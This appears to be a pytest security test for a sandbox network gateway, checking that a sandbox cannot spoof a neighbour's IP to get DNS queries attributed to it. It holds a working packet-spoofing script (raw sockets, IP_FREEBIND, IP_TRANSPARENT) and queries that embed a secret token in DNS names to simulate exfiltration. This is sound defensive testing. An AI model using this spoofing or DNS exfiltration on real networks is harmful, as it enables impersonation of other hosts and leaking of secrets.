"""Spoofed sources: a sandbox sending with its neighbour's address must not get anything
attributed to the neighbour (a DNS query carrying a placeholder would quarantine it). Tried
from gVisor (raw socket, IP_FREEBIND, IP_TRANSPARENT) and as root of the sandbox's own
kernel (a raw socket in its namespace, which is what a microVM guest is: see
tests/integration/test_microvm.py for the guest itself). Each attempt ends with a control:
the same query from the sandbox's own address, which must be seen, so that "nothing was
attributed" is known rather than waited for."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator

import pytest

from gateway.client import Client, Sandbox
from gateway.selftest.seat import Seat
from sandbox_net.links import NETNS_DIR
from sandbox_net.names import Naming
from tests.harness import Gateway, nft_counter
from tests.security.conftest import _seat
from tests.topology import Topology

pytestmark = pytest.mark.integration

# Sends one DNS query for argv[3] from argv[1] to argv[2]:53 each way it can; prints what
# each way did. Standalone: runs inside gVisor and in the sandbox's namespace alike.
SPOOF = r"""
import json, random, socket, struct, sys
src, dst, name = sys.argv[1], sys.argv[2], sys.argv[3]
query = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
query += struct.pack(">HH", 1, 1)
udp = struct.pack(">HHHH", 40053, 53, 8 + len(query), 0) + query
def checksum(data):
    total = sum(struct.unpack(">10H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                   socket.inet_aton(src), socket.inet_aton(dst))
packet = head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp
out = {}
def attempt(way, send):
    try:
        send()
        out[way] = "sent"
    except OSError as e:
        out[way] = "error:" + type(e).__name__
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(packet, (dst, 0))
def bound(option):
    def send():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_IP, option, 1)
        s.bind((src, 0))
        s.sendto(query, (dst, 53))
    return send
attempt("raw", raw)
attempt("freebind", bound(15))       # IP_FREEBIND
attempt("transparent", bound(19))    # IP_TRANSPARENT
print(json.dumps(out))
"""


@pytest.fixture
def victim(gateway: Gateway, topology: Topology, security_client: Client) -> Iterator[Seat]:
    """The neighbour whose address the attacker spoofs."""
    yield from _seat(topology, security_client)


def gateway_ip(sandbox: Sandbox) -> str:
    return sandbox.exec(["/bin/sh", "-c", "sed -n 's/^nameserver //p' /etc/resolv.conf"]
                        ).stdout.split()[0]


def placeholder(seat: Seat) -> str:
    return str(seat.run("out['p'] = os.environ['SEC_TOKEN']")["p"])


def settle_with_a_control(attacker: Seat, gateway: Gateway, since: int, label: str) -> None:
    """The attacker's own, unspoofed query for `label`: once its row is in, any query sent
    before it has been answered or dropped."""
    attacker.run(f"out.update(dns_query({label!r} + '.www.upstream.test', 1))")
    gateway.wait_until(lambda: any(label in (r["host"] or "")
                                   for r in gateway.audit_rows(since)), timeout=30)


def assert_untouched(victim: Seat, gateway: Gateway, since: int, label: str) -> None:
    rows = gateway.audit_rows(since)
    assert [r for r in rows if r["sandbox_id"] == victim.sandbox.id] == []
    assert [r for r in rows if label in (r["host"] or "") and "control" not in r["host"]] == []
    reply = victim.sh("curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "
                      "http://www.upstream.test/")
    assert reply.stdout == "200"                    # not quarantined


def test_spoofing_a_neighbour_from_gvisor(fresh_seat: Seat, victim: Seat,
                                          gateway: Gateway) -> None:
    since = gateway.last_audit_id()
    token = placeholder(fresh_seat)
    name = f"{token}.spoofg.www.upstream.test"
    result = fresh_seat.sandbox.exec(["/usr/bin/python3", "-c", SPOOF, victim.sandbox.info["ip"],
                                      gateway_ip(fresh_seat.sandbox), name])
    tried = json.loads(result.stdout)
    assert set(tried) == {"raw", "freebind", "transparent"}
    settle_with_a_control(fresh_seat, gateway, since, "control-spoofg")
    assert_untouched(victim, gateway, since, "spoofg")


def in_namespace(sandbox: Sandbox, *args: str) -> dict[str, str]:
    """SPOOF run as root in the sandbox's network namespace, outside gVisor."""
    run = subprocess.run(["nsenter", f"--net={NETNS_DIR / sandbox.info['netns']}",
                          sys.executable, "-c", SPOOF, *args],
                         capture_output=True, text=True, check=True, timeout=30)
    result: dict[str, str] = json.loads(run.stdout)
    return result


def test_spoofing_a_neighbour_as_root_of_the_sandbox_kernel(fresh_seat: Seat, victim: Seat,
                                                            gateway: Gateway) -> None:
    """A raw socket in the sandbox's namespace, outside gVisor: the packets certainly leave
    with the neighbour's address; the link's pin drops them (and counts them)."""
    table = Naming(gateway.prefix).table
    before = nft_counter(table, "guard", "spoofed-source")
    since = gateway.last_audit_id()
    attacker = fresh_seat.sandbox
    token = placeholder(fresh_seat)
    sent = in_namespace(attacker, victim.sandbox.info["ip"], gateway_ip(attacker),
                        f"{token}.spoofr.www.upstream.test")
    assert sent["raw"] == "sent"
    assert nft_counter(table, "guard", "spoofed-source") > before
    settle_with_a_control(fresh_seat, gateway, since, "control-spoofr")
    assert_untouched(victim, gateway, since, "spoofr")
    # the same packet from the sandbox's own address is its own, and quarantines it
    in_namespace(attacker, attacker.info["ip"], gateway_ip(attacker),
                 f"{token}.own.www.upstream.test")
    gateway.wait_until(lambda: any(r["reason"] == "secret_exfil_attempt"
                                   for r in gateway.audit_rows(since)
                                   if r["sandbox_id"] == attacker.id), timeout=30)
